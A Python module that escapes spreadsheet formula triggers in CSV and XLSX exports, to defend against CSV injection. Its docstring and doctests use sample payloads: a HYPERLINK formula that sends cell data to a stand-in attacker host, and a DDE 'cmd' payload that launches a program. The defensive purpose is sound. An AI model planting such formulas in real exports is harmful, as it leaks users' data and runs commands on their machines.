"""Every CSV and XLSX file the service writes, safe to open in a spreadsheet program.

The text in these files comes from outside: free-text answers of respondents, the
names of units and groups in a plan, what staff typed.  A spreadsheet program takes a
cell that starts with ``=`` as a formula, and on importing a CSV file also one that
starts with ``+``, ``-``, ``@``, a tab or a carriage return: an answer such as
``=HYPERLINK("http://evil.example/?"&A1,"x")`` becomes a live link that sends the
neighbouring cells away (CSV or formula injection).  And an XLSX file cannot hold
most control characters at all: a vertical tab pasted from a word processor made the
whole export fail.  So every file goes through this module:

* **CSV** (:func:`write_csv`, :func:`csv_bytes`, :func:`frame_to_csv`): a text cell
  that starts with one of :data:`FORMULA_TRIGGERS` is written with a single quote in
  front (``'=HYPERLINK(...)``), which spreadsheet programs show as text (the OWASP
  rule for CSV injection);
* **XLSX** (:func:`xlsx_bytes`): such a text is a string cell (data type ``s``) with
  the "quote prefix" style, so it is shown as typed and is never a formula, not even
  once edited; characters that XML cannot hold are removed (:func:`xlsx_text`).

Numbers stay numbers: only text is escaped, and a text that is a plain number
(``-5``, ``2,5``: a stored answer to a number question) is left as it is.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from functools import lru_cache
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: The first characters that make a spreadsheet program read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

#: The most characters an Excel cell holds.
XLSX_CELL_LIMIT = 32_767

# A plain number, as a number question's answer is stored: harmless, kept as it is.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program could take ``text`` as a formula.

    >>> is_formula_like('=HYPERLINK("http://evil.example/","x")'), is_formula_like("@SUM(A1)")
    (True, True)
    >>> is_formula_like("-5"), is_formula_like("2,5"), is_formula_like("Sở Nội vụ")
    (False, False, False)
    """
    return text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)


def csv_value(value: Any) -> Any:
    """``value`` as a CSV cell: text that could be a formula gets a single quote in front.

    >>> csv_value("=cmd|' /C calc'!A0"), csv_value("-1"), csv_value(-1.5), csv_value(None)
    ("'=cmd|' /C calc'!A0", '-1', -1.5, None)
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


@lru_cache(maxsize=1)
def _xml_illegal() -> re.Pattern[str]:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    # openpyxl's control characters, and what UTF-8 or XML cannot carry at all.
    return re.compile(f"{ILLEGAL_CHARACTERS_RE.pattern}|[\ud800-\udfff\ufffe\uffff]")


def xlsx_text(text: str) -> str:
    """``text`` as an XLSX cell can hold it: without the characters XML refuses, and
    cut at :data:`XLSX_CELL_LIMIT` characters.

    >>> xlsx_text("Ý kiến\\x0bkhác\\x00")
    'Ý kiếnkhác'
    """
    return _xml_illegal().sub("", text)[:XLSX_CELL_LIMIT]


# --------------------------------------------------------------------------- CSV


def write_csv(fh: IO[str], columns: Sequence[str],
              rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> int:
    """Write a header and ``rows`` (mappings by column name, or sequences) as CSV to
    ``fh``, text escaped with :func:`csv_value`; returns the number of rows.

    >>> out = io.StringIO()
    >>> write_csv(out, ["unit", "completed"], [{"unit": "=1+1", "completed": -3}])
    1
    >>> out.getvalue()
    "unit,completed\\n'=1+1,-3\\n"
    """
    writer = csv.writer(fh, lineterminator="\n")
    writer.writerow([csv_value(c) for c in columns])
    count = 0
    for row in rows:
        values = [row.get(c) for c in columns] if isinstance(row, Mapping) else row
        writer.writerow([csv_value(v) for v in values])
        count += 1
    return count


def csv_bytes(columns: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]) -> bytes:
    """:func:`write_csv` into UTF-8 bytes."""
    out = io.StringIO()
    write_csv(out, columns, rows)
    return out.getvalue().encode("utf-8")


def frame_to_csv(frame: pd.DataFrame, fh: IO[str]) -> None:
    """Write a DataFrame as CSV (pandas' formatting of numbers), text escaped with
    :func:`csv_value`."""
    from pandas.api.types import is_numeric_dtype

    safe = frame.copy()
    for column in safe.columns:
        if not is_numeric_dtype(safe[column].dtype):  # text (object or str), mixed
            safe[column] = safe[column].map(csv_value)
    safe.columns = [csv_value(str(c)) for c in safe.columns]
    safe.to_csv(fh, index=False, lineterminator="\n")


# --------------------------------------------------------------------------- XLSX


def _plain(value: Any) -> Any:
    """A DataFrame's value as openpyxl takes it (numpy scalars, NaN, infinity ...)."""
    if value is None:
        return None
    if hasattr(value, "item") and not isinstance(value, str | bytes):
        value = value.item()  # numpy scalar
    if isinstance(value, float):
        if math.isnan(value):
            return None
        if math.isinf(value):
            return "inf" if value > 0 else "-inf"
        return value
    if isinstance(value, bool | int | str):
        return value
    if value is _pandas_missing("NaT") or value is _pandas_missing("NA"):
        return None
    if isinstance(value, dt.date):  # a date or time (a Timestamp too) is a date cell
        return value.replace(tzinfo=None) if isinstance(value, dt.datetime) else value
    return str(value)


def _pandas_missing(name: str) -> Any:
    import pandas as pd

    return getattr(pd, name)


def _rows_of(table: Any) -> tuple[list[str], Iterable[Sequence[Any]]]:
    if isinstance(table, tuple):
        columns, rows = table
        columns = list(columns)
        return columns, ([row.get(c) for c in columns] if isinstance(row, Mapping) else row
                         for row in rows)
    frame = table
    return [str(c) for c in frame.columns], frame.itertuples(index=False, name=None)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """``values`` ready for ``sheet.append``: text cleaned, and a cell that is never a
    formula wherever a text could be one (for any openpyxl worksheet, write-only or not).

    >>> import openpyxl
    >>> sheet = openpyxl.Workbook().active
    >>> sheet.append(xlsx_row(sheet, ["unit_name", "=cmd|' /C calc'!A0", 3]))
    >>> [(c.value, c.data_type) for c in sheet[1]]
    [('unit_name', 's'), ("=cmd|' /C calc'!A0", 's'), (3, 'n')]
    """
    from openpyxl.cell import WriteOnlyCell

    return [_value(sheet, v, WriteOnlyCell) for v in values]


def xlsx_bytes(sheets: Mapping[str, Any]) -> bytes:
    """A workbook of several tables (sheet name -> DataFrame, or (columns, rows)).

    A header row in bold, then one row per row of the table; numbers are number
    cells, text is a string cell that is never a formula (see the module's note).

    >>> import openpyxl
    >>> data = xlsx_bytes({"t": (["unit", "n"], [["=cmd|' /C calc'!A0", -2], ["a\\x0bb", 1.5]])})
    >>> sheet = openpyxl.load_workbook(io.BytesIO(data))["t"]
    >>> [(c.value, c.data_type) for c in sheet["A"]]
    [('unit', 's'), ("=cmd|' /C calc'!A0", 's'), ('ab', 's')]
    >>> [c.value for c in sheet["B"]], sheet["A2"].quotePrefix
    (['n', -2, 1.5], True)
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    bold = Font(bold=True)
    for name, table in sheets.items():
        sheet = book.create_sheet(title=name[:31])
        columns, rows = _rows_of(table)
        header = []
        for column in columns:
            cell = WriteOnlyCell(sheet)
            fill_cell(cell, _plain(column))
            cell.font = bold
            header.append(cell)
        sheet.append(header)
        for row in rows:
            sheet.append(xlsx_row(sheet, row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _value(sheet: Any, value: Any, make: Any) -> Any:
    """What to append for ``value``: the value itself, or a cell where text needs one."""
    value = _plain(value)
    if not isinstance(value, str):
        return value
    text = xlsx_text(value)
    if not is_formula_like(text) and not text.startswith("="):
        return text
    cell = make(sheet)
    fill_cell(cell, text)
    return cell


def fill_cell(cell: Any, value: Any) -> None:
    """Put ``value`` in an openpyxl ``cell``; text is cleaned (:func:`xlsx_text`) and is
    never a formula (a string cell with the "quote prefix" style where it could be one)."""
    if not isinstance(value, str):
        cell.value = value
        return
    text = xlsx_text(value)
    cell.value = text
    if cell.data_type != "s" or is_formula_like(text):
        cell.data_type = "s"
        cell.quotePrefix = True
